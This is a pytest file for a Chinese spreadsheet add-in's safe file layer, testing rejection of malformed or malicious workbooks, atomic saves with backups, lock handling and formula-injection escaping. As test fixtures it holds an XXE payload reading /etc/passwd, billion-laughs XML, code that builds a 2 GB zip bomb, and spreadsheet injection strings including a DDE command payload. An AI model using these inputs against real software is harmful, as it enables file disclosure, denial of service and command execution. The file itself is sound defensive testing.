"""addin.io.safeio：恶意/错误文件被拒绝（中文说明），写入是原子的并保留备份，锁定与只读时拒绝写入，文本不会变成公式。"""
from __future__ import annotations

import copy
import io
import os
import re
import shutil
import stat
import struct
import zipfile
import zlib
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from addin.io import filecheck, locks, safebook, safeio
from addin.io.book import BookError, CellWrite
from addin.io.openpyxl_book import OpenpyxlBook

BAK_RE = re.compile(r"^(?P<stem>.+)\.(?P<stamp>\d{8}-\d{6})(?:-\d+)?\.bak\.xlsx$")
HYPERLINK = '=HYPERLINK("http://x","y")'


@pytest.fixture
def book_path(demo_dir, tmp_path) -> Path:
    """一份可以随意改动的示例工作簿副本（demo_dir 中的原件不得修改）。"""
    p = tmp_path / "保靖.xlsx"
    shutil.copy(demo_dir / "baojing-2018.xlsx", p)
    return p


def _refused(path, *fragments: str) -> str:
    with pytest.raises(BookError) as ei:
        safebook.open_book(path)
    msg = str(ei.value)
    assert re.search(r"[\u4e00-\u9fff]", msg), msg
    for f in fragments:
        assert f in msg, msg
    return msg


def _zip(path: Path, members: dict[str, bytes], method=zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w", method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return path


def _with_member(src: Path, dst: Path, name: str, data: bytes | None) -> Path:
    """复制 xlsx 并替换（或增加、data 为 None 时删除）一个部件。"""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            if item.filename != name:
                zout.writestr(item, zin.read(item))
        if data is not None:
            zout.writestr(name, data)
    return dst


# ---------------------------------------------------------------------------------------------------------------
# defusedxml
# ---------------------------------------------------------------------------------------------------------------
LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                     for i in range(1, 10))
          + b']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
            b"<si><t>&lol9;</t></si></sst>")


def test_openpyxl_uses_defusedxml_for_every_parse():
    import defusedxml.ElementTree as DET
    import openpyxl.xml.functions as xf

    assert openpyxl.DEFUSEDXML is True and filecheck.defusedxml_active()
    # 工作表与共享字符串走 iterparse：就是 defusedxml 的版本
    assert xf.iterparse is DET.iterparse
    with pytest.raises(Exception) as ei:
        list(xf.iterparse(io.BytesIO(LAUGHS)))
    assert type(ei.value).__module__.startswith("defusedxml")
    # 其余部件用 fromstring：有 lxml 时是 resolve_entities=False 的解析器，实体不展开；没有 lxml 时是 defusedxml
    if openpyxl.LXML:
        from lxml.etree import XMLSyntaxError

        internal = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "SECRET">]><x>&a;</x>'
        assert "SECRET" not in "".join(xf.fromstring(internal).itertext())  # resolve_entities=False
        try:  # libxml2 ≥ 2.12 拒绝实体放大；更早的版本不展开实体
            assert len("".join(xf.fromstring(LAUGHS).itertext())) < 1000
        except XMLSyntaxError as exc:
            assert "amplification" in str(exc) or "entit" in str(exc).lower()
        xxe = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>')
        assert "root:" not in "".join(xf.fromstring(xxe).itertext())
    else:
        assert xf.fromstring is DET.fromstring


def test_open_book_refuses_when_defusedxml_is_disabled(book_path, monkeypatch):
    monkeypatch.setattr(openpyxl, "DEFUSEDXML", False)
    _refused(book_path, "defusedxml")


@pytest.mark.parametrize("part", ["xl/sharedStrings.xml", "xl/worksheets/sheet1.xml", "xl/workbook.xml",
                                  "[Content_Types].xml", "_rels/.rels"])
def test_billion_laughs_in_any_part_is_refused_before_openpyxl(book_path, tmp_path, part, monkeypatch):
    bad = _with_member(book_path, tmp_path / "bomb.xlsx", part, LAUGHS)
    monkeypatch.setattr(openpyxl, "load_workbook", _must_not_be_called)
    _refused(bad, "DTD", part)


def test_external_entity_is_refused(book_path, tmp_path):
    xxe = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
           b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&xxe;</t></si></sst>')
    _refused(_with_member(book_path, tmp_path / "xxe.xlsx", "xl/sharedStrings.xml", xxe), "DTD")


def test_utf16_doctype_is_found_too(book_path, tmp_path):
    data = LAUGHS.decode().replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
    _refused(_with_member(book_path, tmp_path / "u16.xlsx", "xl/sharedStrings.xml", data.encode("utf-16")), "DTD")


def test_openpyxl_alone_would_also_refuse_a_dtd_in_a_worksheet(book_path, tmp_path):
    """纵深防御：即使绕过 safeio，openpyxl 解析工作表时 defusedxml 也会拒绝 DTD。"""
    sheet = zipfile.ZipFile(book_path).read("xl/worksheets/sheet1.xml")
    evil = sheet.replace(b"<worksheet", b'<!DOCTYPE w [<!ENTITY a "aaaa">]><worksheet', 1)
    bad = _with_member(book_path, tmp_path / "w.xlsx", "xl/worksheets/sheet1.xml", evil)
    with pytest.raises(Exception) as ei:
        openpyxl.load_workbook(bad)
    chain, exc = [], ei.value
    while exc is not None:
        chain.append(type(exc).__name__)
        exc = exc.__cause__ or exc.__context__
    assert any("Forbidden" in name for name in chain), chain


def _must_not_be_called(*a, **k):  # pragma: no cover - 被调用即失败
    raise AssertionError("openpyxl 不应被调用：文件应在检查阶段被拒绝")


# ---------------------------------------------------------------------------------------------------------------
# 压缩炸弹
# ---------------------------------------------------------------------------------------------------------------
def _deflate_zeros(mb: int) -> bytes:
    """mb MB 个 0 的 raw deflate 流：压缩 1 MB 后 FULL_FLUSH（字典清空、字节对齐），该块可原样重复拼接。"""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(bytes(1 << 20)) + c.flush(zlib.Z_FULL_FLUSH)
    return block * mb + c.flush(zlib.Z_FINISH)


def _zip_with_raw(path: Path, members: list[tuple[str, bytes, int, int]]) -> Path:
    """手工拼 zip（name, 已压缩数据, 解压后大小, crc）：可以在几毫秒内造出解压后 2 GB 的真实压缩包。"""
    out, central = bytearray(), bytearray()
    for name, data, size, crc in members:
        n = name.encode()
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data), size, len(n), 0) + n + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(data), size, len(n),
                               0, 0, 0, 0, 0, offset) + n
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(out), 0)
    path.write_bytes(bytes(out + central + end))
    return path


CRC_2GB_ZEROS = 0x4DBDF21C  # zlib.crc32(bytes(2**31))，预先算好（现算要 0.7 秒）


def _two_gb_bomb(path: Path) -> Path:
    small = b'<?xml version="1.0"?><workbook/>'
    return _zip_with_raw(path, [
        ("[Content_Types].xml", zlib.compress(b"<Types/>")[2:-4], 8, zlib.crc32(b"<Types/>")),
        ("xl/workbook.xml", zlib.compress(small)[2:-4], len(small), zlib.crc32(small)),
        ("xl/worksheets/sheet1.xml", _deflate_zeros(2048), 2 ** 31, CRC_2GB_ZEROS),
    ])


def test_two_gigabyte_zip_bomb_is_refused_from_the_central_directory(tmp_path, monkeypatch):
    bomb = _two_gb_bomb(tmp_path / "炸弹.xlsx")
    assert bomb.stat().st_size < 3 * 1024 * 1024
    with zipfile.ZipFile(bomb) as zf:  # 确认是真炸弹：确实能解压出成 MB 的 0
        assert zf.getinfo("xl/worksheets/sheet1.xml").file_size == 2 ** 31
        with zf.open("xl/worksheets/sheet1.xml") as fh:
            assert fh.read(8 << 20) == bytes(8 << 20)
    # 拒绝只靠中央目录：一个字节都不解压、openpyxl 也不会被调用（因此远在 1 秒以内）
    monkeypatch.setattr(zipfile.ZipFile, "open", _must_not_be_called)
    monkeypatch.setattr(openpyxl, "load_workbook", _must_not_be_called)
    msg = _refused(bomb, "压缩", "炸弹.xlsx")
    assert "2048.0 MB" in msg


def test_high_ratio_member_is_refused_even_under_the_total_limit(tmp_path, monkeypatch):
    bomb = _zip(tmp_path / "r.xlsx", {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>",
                                      "xl/worksheets/sheet1.xml": bytes(20 << 20)})
    monkeypatch.setattr(zipfile.ZipFile, "open", _must_not_be_called)
    _refused(bomb, "压缩比", "sheet1.xml")


def test_too_many_members(tmp_path, monkeypatch):
    monkeypatch.setattr(filecheck, "MAX_MEMBERS", 20)
    p = _zip(tmp_path / "m.xlsx", {f"x/{i}.xml": b"<a/>" for i in range(21)})
    _refused(p, "21 个部件")


def test_overlapping_members_are_refused(tmp_path):
    """重叠式压缩炸弹：多个中央目录项指向同一段数据。"""
    data = zlib.compress(b"<a/>" * 100)[2:-4]
    p = _zip_with_raw(tmp_path / "o.xlsx", [("xl/workbook.xml", data, 400, zlib.crc32(b"<a/>" * 100))])
    raw = bytearray(p.read_bytes())
    cd = raw.index(b"PK\x01\x02")
    entry = bytes(raw[cd:raw.index(b"PK\x05\x06")])
    second = entry.replace(b"xl/workbook.xml", b"xl/workbooK.xml")
    eocd = raw.index(b"PK\x05\x06")
    tail = bytearray(raw[eocd:])
    struct.pack_into("<HHI", tail, 8, 2, 2, len(entry) * 2)
    p.write_bytes(bytes(raw[:eocd]) + second + bytes(tail))
    _refused(p, "重叠")


def test_size_limit(book_path, monkeypatch):
    monkeypatch.setattr(filecheck, "MAX_FILE_BYTES", 1000)
    _refused(book_path, "过大", "上限")


def test_uncompressed_limit(book_path, monkeypatch):
    monkeypatch.setattr(filecheck, "MAX_UNCOMPRESSED_BYTES", 50_000)
    _refused(book_path, "解压后", "上限")


# ---------------------------------------------------------------------------------------------------------------
# 不是 xlsx 的文件
# ---------------------------------------------------------------------------------------------------------------
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


@pytest.mark.parametrize("name, content, fragments", [
    ("空.xlsx", b"", ("空文件",)),
    ("数据.xlsx", "单位,金额\n保靖,892.35\n".encode("utf-8"), ("CSV", "另存为")),
    ("数据gbk.xlsx", "单位,金额\n保靖,892.35\n".encode("gb18030"), ("CSV",)),
    ("p.xlsx", b"%PDF-1.4\n...", ("PDF",)),
    ("h.xlsx", b"<html><table><tr><td>1</td></tr></table></html>", ("网页",)),
    ("rand.xlsx", bytes(range(256)) * 4, ("无法识别",)),
    ("old.xlsx", OLE + b"Workbook".join([b""] * 2) + bytes(1024), (".xls", "另存为")),
    ("pw.xlsx", OLE + "EncryptionInfo".encode("utf-16-le") + bytes(10) + "EncryptedPackage".encode("utf-16-le"),
     ("密码",)),
])
def test_non_workbooks_are_refused_with_a_specific_message(tmp_path, name, content, fragments):
    p = tmp_path / name
    p.write_bytes(content)
    _refused(p, name, *fragments)


@pytest.mark.parametrize("members, fragment", [
    ({"word/document.xml": b"<w/>", "[Content_Types].xml": b"<T/>"}, "Word"),
    ({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<c/>"}, ".ods"),
    ({"xl/workbook.bin": b"\x00", "[Content_Types].xml": b"<T/>"}, ".xlsb"),
    ({"readme.txt": b"hi"}, "zip"),
])
def test_other_zip_formats(tmp_path, members, fragment):
    _refused(_zip(tmp_path / "z.xlsx", members), fragment)


def test_truncated_and_corrupt_files(book_path, tmp_path):
    data = book_path.read_bytes()
    (tmp_path / "half.xlsx").write_bytes(data[: len(data) // 2])
    _refused(tmp_path / "half.xlsx", "损坏")
    # 中央目录完好、数据被篡改：CRC 校验失败
    raw = bytearray(data)
    i = raw.index(b"PK\x03\x04", 100) + 60
    raw[i:i + 40] = bytes(40)
    (tmp_path / "crc.xlsx").write_bytes(bytes(raw))
    _refused(tmp_path / "crc.xlsx", "损坏")


def test_missing_directory_and_wrong_extension(book_path, tmp_path):
    _refused(tmp_path / "没有.xlsx", "找不到文件")
    _refused(tmp_path, "文件夹")
    renamed = tmp_path / "报表.dat"
    shutil.copy(book_path, renamed)
    _refused(renamed, "扩展名", ".xlsx")


# ---------------------------------------------------------------------------------------------------------------
# 含宏的工作簿
# ---------------------------------------------------------------------------------------------------------------
VBA = OLE + b"Attribute VB_Name" + bytes(100)


def _xlsm(book_path: Path, tmp_path: Path, name: str = "宏.xlsm") -> Path:
    """含宏的工作簿，结构与 Excel 保存的相同：vbaProject.bin、工作簿到它的关系、启用宏的工作簿内容类型。"""
    src = zipfile.ZipFile(book_path)
    parts = {i.filename: src.read(i) for i in src.infolist()}
    parts["xl/vbaProject.bin"] = VBA
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
                             b'vbaProject" Target="vbaProject.bin"/></Relationships>')
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"spreadsheetml.sheet.main+xml", b"dummy").replace(
        b"application/vnd.openxmlformats-officedocument.dummy", b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    ).replace(b"<Default ", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                            b"<Default ", 1)
    return _zip(tmp_path / name, parts)


def test_macro_workbook_is_read_without_loading_macros(book_path, tmp_path):
    from addin.scoring.engine import evaluate
    from addin.scoring.reader import read_inputs

    p = _xlsm(book_path, tmp_path)
    book = safebook.open_book(p)
    assert book.has_macros and book.wb.vba_archive is None  # keep_vba=False：宏代码根本没有读入
    assert any("不读取也不运行宏" in n for n in book.notices)
    assert evaluate(read_inputs(book)).total == Decimal("94.9")


def test_macro_workbook_is_written_back_with_its_macros(book_path, tmp_path):
    """写回只拼接生成表：宏工程（vbaProject.bin）与它的关系、启用宏的内容类型都原样保留，写回 .xlsm 是安全的。"""
    p = _xlsm(book_path, tmp_path)
    before = p.read_bytes()
    book = safebook.open_book(p)
    book.replace_sheet("校验结果", [CellWrite(1, 1, "校验结果")])
    safeio.save_book(book)
    with zipfile.ZipFile(p) as z, zipfile.ZipFile(io.BytesIO(before)) as b:
        assert z.read("xl/vbaProject.bin") == VBA
        for part in ("xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml", "xl/sharedStrings.xml",
                     "xl/theme/theme1.xml"):
            assert z.read(part) == b.read(part), part
        assert b"macroEnabled.main+xml" in z.read("[Content_Types].xml")
        assert b"vbaProject.bin" in z.read("xl/_rels/workbook.xml.rels")
    # 另存为 .xlsx：.xlsx 不能含宏，去掉宏部件并改为普通工作簿的内容类型（否则 Excel 拒绝打开）
    out = safeio.save_book(book, tmp_path / "结果.xlsx").path
    with zipfile.ZipFile(out) as z:
        assert "xl/vbaProject.bin" not in z.namelist()
        assert b"macroEnabled" not in z.read("[Content_Types].xml")
        assert b"spreadsheetml.sheet.main+xml" in z.read("[Content_Types].xml")
        assert b"vbaProject" not in z.read("xl/_rels/workbook.xml.rels")
    assert "校验结果" in openpyxl.load_workbook(out).sheetnames
    # 另存为 .xlsm：宏保留
    with zipfile.ZipFile(safeio.save_book(book, tmp_path / "结果.xlsm").path) as z:
        assert z.read("xl/vbaProject.bin") == VBA


# ---------------------------------------------------------------------------------------------------------------
# 保存：原子、备份、锁、只读、读取后被改动、会丢失内容
# ---------------------------------------------------------------------------------------------------------------
def test_save_keeps_a_timestamped_backup_and_replaces_atomically(book_path):
    original = book_path.read_bytes()
    os.chmod(book_path, 0o640)
    book = safebook.open_book(book_path)
    book.replace_sheet("校验结果", [CellWrite(1, 1, "校验结果")])
    res = safeio.save_book(book)
    assert res.path == book_path and res.backup is not None
    m = BAK_RE.match(res.backup.name)
    assert m and m["stem"] == "保靖" and res.backup.parent == book_path.parent
    assert res.backup.read_bytes() == original
    assert "校验结果" in openpyxl.load_workbook(book_path).sheetnames
    assert stat.S_IMODE(book_path.stat().st_mode) == 0o640
    # 只剩原文件与备份：没有遗留临时文件
    assert sorted(p.name for p in book_path.parent.iterdir()) == sorted([book_path.name, res.backup.name])
    # 再保存一次（同一本书、文件已由自己更新）：内容相同，没有可丢失的，不留备份
    assert safeio.save_book(book).backup is None
    # 内容不同：又一份备份，不覆盖前一份
    book.replace_sheet("校验结果", [CellWrite(1, 1, "校验结果（第二次）")])
    res2 = safeio.save_book(book)
    assert res2.backup != res.backup and res.backup.exists() and res2.backup.exists()


def test_backup_names_never_collide(tmp_path):
    import datetime as dt

    p = tmp_path / "a.xlsx"
    when = dt.datetime(2024, 1, 31, 14, 25, 1)
    first = safeio.backup_name(p, when)
    assert first.name == "a.20240131-142501.bak.xlsx"
    first.write_bytes(b"x")
    assert safeio.backup_name(p, when).name == "a.20240131-142501-2.bak.xlsx"


def test_no_backup_when_asked_or_when_writing_a_new_file(book_path, tmp_path):
    book = safebook.open_book(book_path)
    assert safeio.save_book(book, tmp_path / "新.xlsx").backup is None
    assert safeio.save_book(book, backup=False).backup is None
    assert not list(tmp_path.glob("*.bak.xlsx"))


@pytest.mark.parametrize("lock", ["~$保靖.xlsx", ".~lock.保靖.xlsx#"])
def test_save_refuses_when_excel_has_the_file_open(book_path, lock):
    book = safebook.open_book(book_path)
    (book_path.parent / lock).write_bytes(b"owner")
    before = book_path.read_bytes()
    with pytest.raises(BookError) as ei:
        safeio.save_book(book)
    assert lock in str(ei.value) and "关闭" in str(ei.value)
    assert book_path.read_bytes() == before and not list(book_path.parent.glob("*.bak.xlsx"))


def test_open_warns_but_reads_when_a_lock_file_exists(book_path):
    (book_path.parent / "~$保靖.xlsx").write_bytes(b"owner")
    assert any("锁文件" in n for n in safebook.open_book(book_path).notices)


def test_save_refuses_read_only_file(book_path):
    book = safebook.open_book(book_path)
    os.chmod(book_path, 0o444)
    try:
        with pytest.raises(BookError, match="只读"):
            safeio.save_book(book)
    finally:
        os.chmod(book_path, 0o644)


def test_save_refuses_when_the_file_changed_after_reading(book_path):
    book = safebook.open_book(book_path)
    with open(book_path, "ab") as fh:  # 模拟用户在 Excel 中又保存了一次
        fh.write(b"\0")
    with pytest.raises(BookError, match="又被修改"):
        safeio.save_book(book)


def test_failure_while_writing_leaves_the_original_untouched(book_path, monkeypatch):
    before = book_path.read_bytes()
    book = safebook.open_book(book_path)

    def half_write(self, data):
        Path.write_bytes(self, b"PK\x03\x04 half")
        raise OSError(28, "No space left on device")

    book.replace_sheet("报告", [CellWrite(1, 1, "报告")])
    monkeypatch.setattr(safeio._TempPath, "write_bytes", half_write)
    with pytest.raises(BookError, match="原文件未改动"):
        safeio.save_book(book)
    assert book_path.read_bytes() == before
    assert sorted(p.name for p in book_path.parent.iterdir()) == [book_path.name]


def test_corrupt_output_is_never_swapped_in(book_path, monkeypatch):
    before = book_path.read_bytes()
    book = safebook.open_book(book_path)
    monkeypatch.setattr(book, "package", lambda suffix=None: b"not a zip")
    with pytest.raises(BookError, match="校验不通过"):
        safeio.save_book(book)
    assert book_path.read_bytes() == before


def test_shapes_openpyxl_would_drop_survive_writing_back(tmp_path):
    """以前 openpyxl 整本保存会丢掉文本框，只好拒绝写回；现在只拼接生成表，文本框（图形部件）逐字节不变。"""
    import xlsxwriter

    p = tmp_path / "形状.xlsx"
    wb = xlsxwriter.Workbook(str(p))
    ws = wb.add_worksheet()
    ws.write(0, 0, 1)
    ws.insert_textbox("C3", "评价人备注")
    wb.close()
    before = p.read_bytes()
    book = safebook.open_book(p)
    book.replace_sheet("校验结果", [CellWrite(1, 1, "校验结果")])
    safeio.save_book(book)
    with zipfile.ZipFile(p) as z, zipfile.ZipFile(io.BytesIO(before)) as b:
        assert z.read("xl/drawings/drawing1.xml") == b.read("xl/drawings/drawing1.xml")
        assert "评价人备注".encode() in z.read("xl/drawings/drawing1.xml")
        assert z.read("xl/worksheets/sheet1.xml") == b.read("xl/worksheets/sheet1.xml")


def test_save_refuses_other_extensions(book_path, tmp_path):
    with pytest.raises(BookError, match=r"\.xlsx"):
        safeio.save_book(safebook.open_book(book_path), tmp_path / "out.csv")


# ---------------------------------------------------------------------------------------------------------------
# 原子写入新文件（报告 docx、批量汇总等）
# ---------------------------------------------------------------------------------------------------------------
def test_atomic_output_new_file_mode_and_cleanup(tmp_path):
    target = tmp_path / "报告.docx"
    res = safeio.write_bytes(target, b"DOCX")
    assert target.read_bytes() == b"DOCX" and res.backup is None
    umask = os.umask(0)
    os.umask(umask)
    assert stat.S_IMODE(target.stat().st_mode) == 0o666 & ~umask
    with pytest.raises(RuntimeError):
        with safeio.atomic_output(target) as tmp:
            tmp.write_bytes(b"partial")
            raise RuntimeError("生成报告出错")
    assert target.read_bytes() == b"DOCX"
    assert [p.name for p in tmp_path.iterdir()] == ["报告.docx"]
    res = safeio.write_text(target, "新内容", backup=True)
    assert target.read_text("utf-8") == "新内容" and res.backup.read_bytes() == b"DOCX"


def test_atomic_output_refuses_word_lock_and_missing_folder(tmp_path):
    target = tmp_path / "部门绩效评价报告.docx"
    (tmp_path / "~$绩效评价报告.docx").write_bytes(b"owner")  # Word 对长文件名去掉前两个字符
    with pytest.raises(BookError, match="锁文件"):
        safeio.write_bytes(target, b"x")
    with pytest.raises(BookError, match="不存在"):
        safeio.write_bytes(tmp_path / "无此目录" / "a.docx", b"x")
    with pytest.raises(BookError, match="没有生成任何内容"):
        with safeio.atomic_output(tmp_path / "空.docx"):
            pass


# ---------------------------------------------------------------------------------------------------------------
# 公式注入
# ---------------------------------------------------------------------------------------------------------------
INJECTIONS = [HYPERLINK, "=1+1", "+1+2", "-3+4", "@SUM(A1)", "=cmd|' /C calc'!A0"]


def test_replace_sheet_writes_formula_like_text_as_text(book_path):
    book = safebook.open_book(book_path)
    book.replace_sheet("报告", [CellWrite(i + 1, 1, t) for i, t in enumerate(INJECTIONS)])
    safeio.save_book(book)
    ws = openpyxl.load_workbook(book_path)["报告"]
    assert [(c.value, c.data_type) for c in ws["A"]] == [(t, "s") for t in INJECTIONS]
    xml = zipfile.ZipFile(book_path)
    sheet = next(n for n in xml.namelist() if n.startswith("xl/worksheets/") and b"HYPERLINK" in xml.read(n))
    assert b"<f>" not in xml.read(sheet)
    # 反向验证测试本身：不强制文本类型时，openpyxl 确实会把它写成公式
    wb = openpyxl.Workbook()
    wb.active["A1"] = HYPERLINK
    assert wb.active["A1"].data_type == "f"


def test_xlsxwriter_options_keep_text_as_text(tmp_path):
    import xlsxwriter

    p = tmp_path / "汇总.xlsx"
    wb = xlsxwriter.Workbook(str(p), safeio.XLSXWRITER_OPTIONS)
    ws = wb.add_worksheet()
    for i, t in enumerate(INJECTIONS + ["http://evil.example"]):
        ws.write(i, 0, t)  # 即使用通用的 write()
        ws.write_string(i, 1, t)
    wb.close()
    ws = openpyxl.load_workbook(p).active
    assert all(c.data_type == "s" for c in ws["A"] + ws["B"])
    assert not ws["A7"].hyperlink


def test_excel_and_csv_text_helpers():
    for t in INJECTIONS + ["\tcmd", "＝1+1"]:
        assert safeio.is_formula_like(t)
        assert safeio.excel_text(t) == "'" + t and safeio.csv_text(t) == "'" + t
    for t in ("保靖县", "95%", "3745（2177）", 5, None):
        assert not safeio.is_formula_like(t) and safeio.csv_text(t) == t


# ---------------------------------------------------------------------------------------------------------------
# 读取：稀疏的超大工作表不会展开
# ---------------------------------------------------------------------------------------------------------------
def test_one_cell_at_xfd1048576_does_not_blow_up_the_grid(book_path):
    from addin.scoring.engine import evaluate
    from addin.scoring.reader import read_inputs

    wb = openpyxl.load_workbook(book_path)
    wb["基础数据表"]["XFD1048576"] = "随手一敲"
    wb["评分表"]["XFD1048576"] = 1
    wb.save(book_path)
    book = safebook.open_book(book_path, with_cached=True)
    g = book.grid("基础数据表")
    assert g[(1048576, 16384)] == "随手一敲" and len(g) < 500
    assert evaluate(read_inputs(book)).total == Decimal("94.9")


def test_openpyxl_book_still_works_for_plain_use(book_path):
    assert "评分表" in OpenpyxlBook(book_path).sheet_names()


# ---------------------------------------------------------------------------------------------------------------
# 每一条写入路径（命令行）：原子替换、覆盖前备份、文件被打开（锁文件）时以中文说明拒绝且一字节不改
# ---------------------------------------------------------------------------------------------------------------
def _cli(capsys, *argv: str) -> tuple[int, str, str]:
    from addin.cli.main import main

    try:
        code = main([str(a) for a in argv])
    except BaseException as exc:  # noqa: BLE001 —— 任何逃出 main 的异常都是用户会看到的回溯
        pytest.fail(f"jixiao {' '.join(map(str, argv))} 抛出 {type(exc).__name__}: {exc}")
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    return code, out, err


def _leftovers(folder: Path) -> list[str]:
    """写入留下的临时文件（safeio 的 .~jixiao-*、各模块自己的 .tmp）。"""
    return sorted(p.name for p in folder.iterdir() if p.name.startswith(".~jixiao-") or p.name.endswith(".tmp"))


def _backups(folder: Path) -> list[Path]:
    return sorted(p for p in folder.iterdir() if safeio.is_backup_name(p.name))


def _fake_soffice(tmp_path: Path, monkeypatch) -> None:
    """不装 LibreOffice 也能走一遍 PDF 的写出路径：假 soffice 把 --outdir 中生成同名 .pdf。"""
    import addin.report.pdf as pdf

    exe = tmp_path / "soffice"
    exe.write_text('#!/bin/sh\nfor a; do last="$a"; done\nwhile [ $# -gt 0 ]; do [ "$1" = --outdir ] && out="$2"; '
                   'shift; done\nb=$(basename "$last" .docx)\nprintf "%%PDF-1.4 fake" > "$out/$b.pdf"\n')
    exe.chmod(0o755)
    monkeypatch.setattr(pdf, "find_soffice", lambda: str(exe))


# (名称, 命令（{wb} 为工作簿，{d} 为输出目录）, 写入的目标文件（相对 d）)
WRITE_PATHS = [
    ("report", ["report", "{wb}"], "wb.xlsx"),
    ("report-o", ["report", "{wb}", "-o", "{d}/out.xlsx"], "out.xlsx"),
    ("report-docx", ["report", "{wb}", "-o", "{d}/out.xlsx", "--docx", "{d}/报告.docx"], "报告.docx"),
    ("report-pdf", ["report", "{wb}", "-o", "{d}/out.xlsx", "--pdf", "{d}/报告.pdf"], "报告.pdf"),
    ("check-write", ["check", "{wb}", "--write"], "wb.xlsx"),
    ("batch", ["batch", "{d}/in", "-o", "{d}/汇总.xlsx", "--jobs", "1", "-q"], "汇总.xlsx"),
    ("compare", ["compare", "{d}/in/wb.xlsx", "-o", "{d}/差异.xlsx"], "差异.xlsx"),
    ("export", ["export", "{wb}", "-o", "{d}/定稿.xlsx"], "定稿.xlsx"),
    ("new", ["new", "--system", "hunan-dept", "-o", "{d}/空白.xlsx", "--force"], "空白.xlsx"),
    ("demo", ["demo", "-o", "{d}"], "zizhou-2021.xlsx"),
]


def _setup_write_path(demo_dir: Path, tmp_path: Path, monkeypatch) -> tuple[Path, Path]:
    d = tmp_path / "out"
    (d / "in").mkdir(parents=True)
    wb = d / "wb.xlsx"
    shutil.copy(demo_dir / "zizhou-2021.xlsx", wb)
    shutil.copy(demo_dir / "zizhou-2021.xlsx", d / "in" / "wb.xlsx")
    _fake_soffice(tmp_path, monkeypatch)
    return d, wb


def _argv(cmd: list[str], d: Path, wb: Path) -> list[str]:
    return [a.format(wb=wb, d=d) for a in cmd]


@pytest.mark.parametrize("name, cmd, target", WRITE_PATHS, ids=[w[0] for w in WRITE_PATHS])
def test_every_write_path_refuses_a_file_open_in_excel(name, cmd, target, demo_dir, tmp_path, monkeypatch, capsys):
    d, wb = _setup_write_path(demo_dir, tmp_path, monkeypatch)
    t = d / target
    if not t.exists():
        t.write_bytes(b"old content the user cares about")
    before = {p.name: p.read_bytes() for p in d.iterdir() if p.is_file()}
    lock = d / ("~$" + target)
    lock.write_bytes(b"owner")
    code, out, err = _cli(capsys, *_argv(cmd, d, wb))
    assert code == 2, (out, err)
    assert lock.name in err and "关闭" in err and target in err, err
    after = {p.name: p.read_bytes() for p in d.iterdir() if p.is_file() and p != lock}
    if name in ("report-docx", "report-pdf"):
        after.pop("out.xlsx", None)  # 报告表已另存（-o），被拒绝的只是随后写出的 Word/PDF
    assert after == before  # 目标与其他文件一字节未改，没有备份、没有临时文件
    assert not _leftovers(d)


@pytest.mark.parametrize("name, cmd, target", WRITE_PATHS, ids=[w[0] for w in WRITE_PATHS])
def test_every_write_path_is_atomic_and_backs_up_what_it_overwrites(name, cmd, target, demo_dir, tmp_path,
                                                                   monkeypatch, capsys):
    d, wb = _setup_write_path(demo_dir, tmp_path, monkeypatch)
    t = d / target
    if not t.exists():  # 目标原有内容：一份用户改过的文件（与将写出的内容不同）
        shutil.copy(demo_dir / "baojing-2018.xlsx", t)
    old = t.read_bytes()
    code, out, err = _cli(capsys, *_argv(cmd, d, wb))
    assert code in (0, 1), (out, err)
    assert t.read_bytes() != old
    baks = [b for b in _backups(d) if b.name.startswith(Path(target).stem + ".")]
    if name == "report-pdf":
        assert baks == []  # PDF 总由 Word 报告重新生成，不留备份（写入仍是原子的）
    else:
        assert len(baks) == 1 and baks[0].read_bytes() == old, [b.name for b in _backups(d)]
        assert BAK_RE.match(baks[0].name) or baks[0].suffix != ".xlsx"
    assert not _leftovers(d)
    if t.suffix == ".xlsx":
        with zipfile.ZipFile(t) as z:
            assert z.testzip() is None


def test_regenerating_the_same_output_leaves_no_redundant_backups(demo_dir, tmp_path, capsys):
    """同一份工作簿再次生成 Word 报告、再次运行 demo：内容没有变化，不堆积备份（改过的文件留备份：见上面的 [demo]）。"""
    d = tmp_path / "demo"
    assert _cli(capsys, "demo", "-o", d)[0] == 0
    assert _cli(capsys, "demo", "-o", d)[0] == 0
    assert _backups(d) == [] and len(list(d.iterdir())) == 8 + 3  # 另有开福区的三个项目工作簿
    docx = tmp_path / "r.docx"
    for _ in range(2):
        assert _cli(capsys, "report", d / "baojing-2018.xlsx", "-o", tmp_path / "r.xlsx", "--docx", docx)[0] == 0
